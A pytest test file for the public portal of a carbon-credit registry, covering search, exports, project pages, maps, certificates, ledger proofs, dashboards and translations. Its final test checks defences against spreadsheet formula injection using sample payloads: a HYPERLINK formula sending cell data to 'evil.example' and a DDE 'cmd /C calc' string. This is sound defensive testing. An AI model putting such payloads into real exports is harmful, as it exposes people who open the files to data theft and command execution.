"""The public portal's pages, exports and figures (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from tonne.ledger.models import LedgerEntry
from tonne.portal import svg
from tonne.portal.tests.conftest import Portal, build_portal

pytestmark = pytest.mark.django_db


def get(path: str, lang: str = "en", **params: object):  # noqa: ANN201
    client = Client(headers={"accept-language": lang})
    return client.get(path, params)


def text(response) -> str:  # noqa: ANN001
    return response.content.decode()


# -- home -------------------------------------------------------------------------------------


def test_home_shows_headline_figures(portal: Portal) -> None:
    r = get("/")
    assert r.status_code == 200
    body = text(r)
    # Two public projects (the draft is not counted); 17,000 issued; 1,200 retired.
    assert "<dd>2</dd>" in body
    assert "17,000" in body
    assert "1,200" in body
    assert "Last signed checkpoint" in body
    assert 'href="/projects/" aria-current="page"' not in body
    assert 'href="/" aria-current="page"' in body


def test_home_figures_follow_the_ledger(portal: Portal) -> None:
    assert "17,000" in text(get("/"))
    from tonne import testing

    testing.issue(portal.reg, portal.solar, {2024: 1000})
    assert "18,000" in text(get("/"))  # the cache is keyed by the ledger size


# -- search -----------------------------------------------------------------------------------


def test_search_lists_public_projects_only(portal: Portal) -> None:
    body = text(get("/projects/"))
    assert "Ebrié lagoon mangroves" in body
    assert "Korhogo solar park" in body
    assert "Secret draft" not in body
    assert "2 projects" in body


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"q": "lagoon"}, ["Ebrié"]),
        ({"q": "SOLAR park"}, ["Korhogo"]),
        ({"q": "nothing-like-this"}, []),
        ({"region": "Savanes"}, ["Korhogo"]),
        ({"sector": "Afforestation and reforestation"}, ["Ebrié"]),
        ({"type": "Solar"}, ["Korhogo"]),
        ({"methodology": "AR-AM0014"}, ["Ebrié"]),
        ({"status": "registered"}, ["Ebrié", "Korhogo"]),
        ({"crediting": "current"}, ["Ebrié"]),
        ({"crediting": "unknown"}, ["Korhogo"]),
        ({"vintage": "2022"}, ["Ebrié"]),
        ({"vintage": "2023"}, ["Ebrié", "Korhogo"]),
        ({"label": "Blue carbon"}, ["Ebrié"]),
        ({"cobenefit": "SDG 7 - Affordable and clean energy"}, ["Korhogo"]),
        ({"article6": "authorised"}, ["Korhogo"]),
        ({"article6": ["authorised", "not_requested"]}, ["Ebrié", "Korhogo"]),
        ({"region": "Savanes", "label": "Blue carbon"}, []),
    ],
)
def test_search_facets_filter(portal: Portal, params: dict, expected: list[str]) -> None:
    r = get("/projects/", **params)
    assert r.status_code == 200
    if not expected:
        assert "No project matches" in text(r)
        return
    rows = [row for row in text(r).split("<tbody>")[1].split("</tbody>")[0].split("<tr>") if "href" in row]
    assert len(rows) == len(expected)
    for name, row in zip(expected, rows, strict=True):
        assert name in row


def test_facet_counts_leave_out_their_own_selection(portal: Portal) -> None:
    body = text(get("/projects/", region="Savanes"))
    # Lagunes stays choosable (count 1) while Savanes is checked.
    assert 'value="Lagunes"' in body
    assert 'value="Savanes" checked' in body
    assert "SDG 14 - Life below water" not in body  # other facets narrow to the Savanes project


def test_search_sorts_and_paginates(portal: Portal, settings) -> None:  # noqa: ANN001
    body = text(get("/projects/", sort="-name"))
    assert body.index("Korhogo") < body.index("Ebrié")
    body = text(get("/projects/", sort="name"))
    assert body.index("Ebrié") < body.index("Korhogo")
    from tonne.portal import selectors

    selectors.PAGE_SIZE, old = 1, selectors.PAGE_SIZE
    try:
        first = text(get("/projects/", sort="name"))
        second = text(get("/projects/", sort="name", page=2))
        beyond = get("/projects/", sort="name", page=99)
    finally:
        selectors.PAGE_SIZE = old
    assert "Page 1 of 2" in first and "Ebrié" in first and "Korhogo" not in first.split("<tbody>")[1]
    assert "Page 2 of 2" in second and "Korhogo" in second.split("<tbody>")[1]
    assert beyond.status_code == 200 and "Page 2 of 2" in text(beyond)


def test_search_ignores_bad_parameters(portal: Portal) -> None:
    r = get("/projects/", sort="DROP TABLE", page="x", vintage="abc")
    assert r.status_code == 200


def test_search_query_count_does_not_grow_with_rows(portal: Portal, django_assert_max_num_queries) -> None:  # noqa: ANN001
    from django.core.cache import cache

    from tonne import testing

    cache.clear()
    with django_assert_max_num_queries(30) as few:
        get("/projects/")
    for i in range(5):
        testing.registered_project(portal.reg, name=f"More mangroves {i}", methodologies=[{"code": "AR-AM0014"}])
    cache.clear()
    with django_assert_max_num_queries(30) as many:
        get("/projects/")
    # The installation's training mark is read again every 30 s whatever the page: not the search's.
    def search(queries: list[dict]) -> list[dict]:
        return [q for q in queries if "core_installation" not in q["sql"]]

    assert len(search(many.captured_queries)) == len(search(few.captured_queries))


def test_export_csv_has_every_match(portal: Portal) -> None:
    r = get("/projects/export.csv", q="lagoon")
    assert r.status_code == 200
    assert r["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:3] == ["project_id", "name", "status"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["name"] == "Ebrié lagoon mangroves"
    assert row["regions"] == "Lagunes"
    assert row["methodologies"] == "AR-AM0014"
    assert row["units_issued"] == "15000"


def test_export_excel(portal: Portal) -> None:
    from openpyxl import load_workbook

    r = get("/projects/export.xlsx", article6="authorised")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "project_id"
    assert len(rows) == 2 and rows[1][1] == "Korhogo solar park" and rows[1][12] == 2000


def test_export_other_formats_are_not_found(portal: Portal) -> None:
    assert get("/projects/export.pdf").status_code == 404


# -- project page ------------------------------------------------------------------------------


def test_project_page(portal: Portal) -> None:
    r = get(f"/projects/{portal.mangrove.project_id}/")
    assert r.status_code == 200
    body = text(r)
    assert "Ebrié lagoon mangroves" in body
    assert '<svg xmlns="http://www.w3.org/2000/svg" class="map"' in body
    assert 'class="area"' in body  # the GeoJSON polygon
    assert "Blue carbon" in body and "SDG 14 - Life below water" in body and "AR-AM0014" in body
    assert "Abidjan Airways" in body and "CORSIA" in body
    assert f"/certificates/{portal.retirement.identifier}/" in body
    # Issuances with their serials; 10 % of each into the buffer pool.
    assert "CI-VER-14-" in body
    assert "1,500" in body  # buffer of 15,000


def test_project_page_documents_show_their_hash(portal: Portal) -> None:
    from tonne.projects import services as projects

    doc = projects.upload_document(
        actor=portal.reg.developer, project=portal.mangrove, kind="design", title="Design document",
        filename="pdd.pdf", content_type="application/pdf", content=b"%PDF-1.4 design",
    )
    body = text(get(f"/projects/{portal.mangrove.project_id}/"))
    assert doc.sha256 in body and "Design document" in body


def test_project_point_location_is_drawn(portal: Portal) -> None:
    body = text(get(f"/projects/{portal.solar.project_id}/"))
    assert 'class="site"' in body


def test_draft_projects_are_not_public(portal: Portal) -> None:
    assert get(f"/projects/{portal.draft.project_id}/").status_code == 404
    assert get("/projects/CI-9999/").status_code == 404


def test_parse_gis_forms() -> None:
    assert svg.parse_gis("5.32,-4.03")[0].coords == [[(-4.03, 5.32)]]
    assert svg.parse_gis('{"type":"Point","coordinates":[-4.03,5.32]}')[0].kind == "point"
    assert svg.parse_gis('{"type":"MultiPolygon","coordinates":[[[[0,0],[1,0],[1,1],[0,0]]]]}')[0].kind == "polygon"
    assert svg.parse_gis("somewhere nice") == []
    assert svg.parse_gis("95,200") == []  # out of range
    assert svg.location_map("m", "t", "d", []) == ""


def test_map_draws_the_host_country_and_its_neighbours() -> None:
    site = svg.parse_gis("5.32,-4.03")  # Abidjan
    drawn = svg.location_map("m", "t", "d", site, host="CI")
    assert drawn.count('<g class="country host"><title>Côte d&#x27;Ivoire</title>') == 1
    assert "<title>Ghana</title>" in drawn and "<title>Liberia</title>" in drawn
    assert "<title>France</title>" not in drawn
    # The frame takes in the whole host country: its westernmost point is inside the drawing.
    west, south, east, north = svg.country_bbox("CI") or (0, 0, 0, 0)
    assert west < -8 and east > -3 and south < 4.5 and north > 10
    assert drawn.index('class="country') < drawn.index('class="site"')  # beneath the project
    # Far from the host country (or with none known), the frame stays on the sites.
    far = svg.location_map("m", "t", "d", svg.parse_gis("48.85,2.35"), host="CI")
    assert '<g class="country"><title>France</title>' in far and "Ivoire" not in far
    assert "country host" not in svg.location_map("m", "t", "d", site, host="")


# -- serial lookup -------------------------------------------------------------------------------


def test_serial_lookup_shows_block_and_history(portal: Portal) -> None:
    from tonne.units.models import Issuance

    first = Issuance.objects.filter(project=portal.mangrove).order_by("serial_start").first()
    assert first is not None
    r = get("/serials/", serial=str(first.serial_start))
    assert r.status_code == 200
    body = text(r)
    assert "Ebrié lagoon mangroves" in body
    assert "Retired" in body and "Retirement" in body and "Issuance" in body
    assert f"/certificates/{portal.retirement.identifier}/" in body


def test_serial_lookup_bad_input_is_explained(portal: Portal) -> None:
    r = get("/serials/", serial="not a serial")
    assert r.status_code == 422
    assert "SERIAL_MALFORMED" in text(r)
    assert 'aria-invalid="true"' in text(r)
    r = get("/serials/", "fr", serial="not a serial")
    assert "Ce n’est pas un numéro de série" in text(r)


def test_serial_lookup_nothing_found(portal: Portal) -> None:
    r = get("/serials/", serial="999999999")
    assert r.status_code == 200
    assert "No units with those serial numbers exist" in text(r)


# -- certificates and ledger ------------------------------------------------------------------------


def test_certificate_page_shows_verified_proof(portal: Portal) -> None:
    r = get(f"/certificates/{portal.retirement.identifier}/")
    assert r.status_code == 200
    body = text(r)
    assert "Abidjan Airways" in body and "1,200 units retired" in body
    assert "Verified" in body
    assert "<svg" in body and "QR code" in body
    assert f"/ledger/entries/{portal.retirement.ledger_seq}/" in body
    assert "tonne ledger proof verify proof.json --key-file key.txt" in body


def test_certificate_proof_that_fails_is_said_so(portal: Portal, monkeypatch) -> None:  # noqa: ANN001
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from tonne.ledger import keys
    from tonne.ledger.checkpoint import verifier_key

    other = verifier_key("tonne-ci", Ed25519PrivateKey.generate().public_key())
    monkeypatch.setattr(keys, "verifier_key_text", lambda: other)
    body = text(get(f"/certificates/{portal.retirement.identifier}/"))
    assert "The proof did not verify" in body and "Verified" not in body


def test_certificate_before_checkpoint(db: None) -> None:
    from django.core.cache import cache

    cache.clear()
    portal = build_portal()
    from tonne.portal.tests.conftest import key
    from tonne.units import services as units
    from tonne.units.domain import Selection

    later = units.retire(
        actor=portal.reg.developer, from_account=portal.reg.developer_account.identifier,
        selection=Selection.build(quantity=10), beneficiary="Late Ltd", purpose="voluntary", idempotency_key=key(),
    )
    body = text(get(f"/certificates/{later.identifier}/"))
    assert "newer than the latest signed checkpoint" in body


def test_certificate_pdf(portal: Portal) -> None:
    r = get(f"/certificates/{portal.retirement.identifier}.pdf")
    assert r.status_code == 200
    assert r["Content-Type"] == "application/pdf"
    assert r.content.startswith(b"%PDF")
    assert len(r.content) > 2000


def test_certificate_pdf_prints_any_name_and_names_the_project(db: None) -> None:
    """Fonts shipped with Tonne are embedded: Latin accents, Polish and Chinese
    print as themselves, and the project, its country and methodology are named."""
    import pypdf

    from tonne.portal.tests.conftest import key
    from tonne.units import services as units
    from tonne.units.domain import Selection

    portal = build_portal()
    name = "Société Générale — Łódź & 北京 branch"
    retirement = units.retire(
        actor=portal.reg.developer, from_account=portal.reg.developer_account.identifier,
        selection=Selection.build(quantity=10, project=portal.solar.project_id), beneficiary=name, purpose="voluntary",
        idempotency_key=key(),
    )
    pdf = pypdf.PdfReader(io.BytesIO(get(f"/certificates/{retirement.identifier}.pdf").content))
    printed = "".join(p.extract_text() for p in pdf.pages).replace("\n", "")  # lines break at font changes
    assert name in printed
    project = portal.solar
    assert f"{project.project_id} {project.name}" in printed
    assert "Côte d'Ivoire (CI)" in printed
    assert "ACM0002" in printed
    fonts = {str(f["/BaseFont"]) for f in pdf.pages[0]["/Resources"]["/Font"].values()}
    assert all("DejaVuSans" in f or "DroidSansFallback" in f for f in fonts), fonts
    assert not any("Helvetica" in f for f in fonts)


def test_certificate_of_unknown_or_non_retirement_is_not_found(portal: Portal) -> None:
    from tonne.units.models import Transaction

    transfer = Transaction.objects.filter(kind="transfer").first()
    assert transfer is not None
    assert get(f"/certificates/{transfer.identifier}/").status_code == 404
    assert get("/certificates/TX-NOPE/").status_code == 404
    assert get("/certificates/TX-NOPE.pdf").status_code == 404


def test_ledger_entry_page_and_proof_download(portal: Portal) -> None:
    seq = portal.retirement.ledger_seq
    body = text(get(f"/ledger/entries/{seq}/"))
    assert "Verified" in body and portal.retirement.identifier in body
    r = get(f"/ledger/entries/{seq}/proof.json")
    bundle = json.loads(r.content)
    from tonne.ledger import keys, proofs

    assert proofs.verify_bundle(bundle, keys.verifier_key_text())["seq"] == seq
    assert get("/ledger/entries/999999/").status_code == 404


def test_ledger_page_and_downloads(portal: Portal) -> None:
    from tonne.ledger import keys

    body = text(get("/ledger/"))
    assert keys.verifier_key_text() in body
    assert "tonne ledger proof verify" in body
    assert get("/ledger/verifier-key.txt").content.decode().strip() == keys.verifier_key_text()
    note = get("/ledger/checkpoint.txt").content.decode()
    assert note.splitlines()[1] == str(LedgerEntry.objects.count())


# -- dashboard -----------------------------------------------------------------------------------------


def test_dashboard_figures_and_csv(portal: Portal) -> None:
    r = get("/dashboard/")
    assert r.status_code == 200
    body = text(r)
    assert body.count('<svg xmlns="http://www.w3.org/2000/svg" class="chart"') == 8
    assert body.count("<title id=") == 9  # the eight charts and the map of projects
    for chart in ("over-time", "by-vintage", "by-sector", "by-region", "by-methodology", "article6-units", "by-article6",
                  "projects-by-status"):
        assert f"/dashboard/{chart}.csv" in body
    rows = list(csv.reader(io.StringIO(get("/dashboard/by-vintage.csv").content.decode("utf-8-sig"))))
    assert rows[0] == ["Vintage", "Issued", "Retired", "Cancelled"]
    assert ["2022", "10000", "1200", "0"] in rows
    assert ["2023", "7000", "0", "0"] in rows
    rows = list(csv.reader(io.StringIO(get("/dashboard/by-article6.csv").content.decode("utf-8-sig"))))
    assert ["Authorised", "2000", "1"] in rows and ["Not requested", "15000", "1"] in rows
    # No authorisation in this registry: every unit is a mitigation contribution unit.
    rows = list(csv.reader(io.StringIO(get("/dashboard/article6-units.csv").content.decode("utf-8-sig"))))
    assert rows[1:] == [["Authorised, first transferred", "0"], ["Authorised, awaiting first transfer", "0"],
                        ["Received from another Party", "0"], ["Mitigation contribution units", "17000"]]
    rows = list(csv.reader(io.StringIO(get("/dashboard/by-region.csv").content.decode("utf-8-sig"))))
    assert ["Lagunes", "15000", "1"] in rows
    assert get("/dashboard/nope.csv").status_code == 404


def test_empty_registry_pages(db: None) -> None:
    from django.core.cache import cache

    cache.clear()
    for path in ("/", "/projects/", "/dashboard/", "/ledger/", "/serials/"):
        assert get(path).status_code == 200, path


# -- languages ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("lang", "words", "number"),
    [("fr", "Tableau de bord", "17\xa0000"), ("es", "Panel de transparencia", "17\xa0000")],
)
def test_pages_in_french_and_spanish(portal: Portal, lang: str, words: str, number: str) -> None:
    home = text(get("/", lang))
    assert f'<html lang="{lang}">' in home
    assert number in home
    assert words in text(get("/dashboard/", lang))
    for path in ("/projects/", f"/projects/{portal.mangrove.project_id}/", "/ledger/",
                 f"/certificates/{portal.retirement.identifier}/", "/serials/"):
        assert get(path, lang).status_code == 200


# -- formula injection ---------------------------------------------------------------------------


def test_formula_injection_in_project_exports_is_neutralised(portal: Portal) -> None:
    from openpyxl import load_workbook

    from tonne.portal import summary
    from tonne.projects.models import Location, Project

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    project = Project.objects.get(name="Ebrié lagoon mangroves")
    Project.objects.filter(pk=project.pk).update(name=evil)
    Location.objects.filter(project=project).update(region="@SUM(1+1)*cmd|' /C calc'!A0")
    summary.refresh([project.pk])
    r = get("/projects/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    row = next(dict(zip(rows[0], x, strict=True)) for x in rows[1:] if x[1].startswith("'="))
    assert row["name"] == "'" + evil and row["regions"].startswith("'@")
    assert row["units_issued"] == "15000"  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(get("/projects/export.xlsx").content)).active
    names = [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + evil in names and not any(str(n).startswith("=") for n in names)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula cell
    rows = list(csv.reader(io.StringIO(get("/dashboard/by-region.csv").content.decode("utf-8-sig"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert any(row[0].startswith("'@") for row in rows)
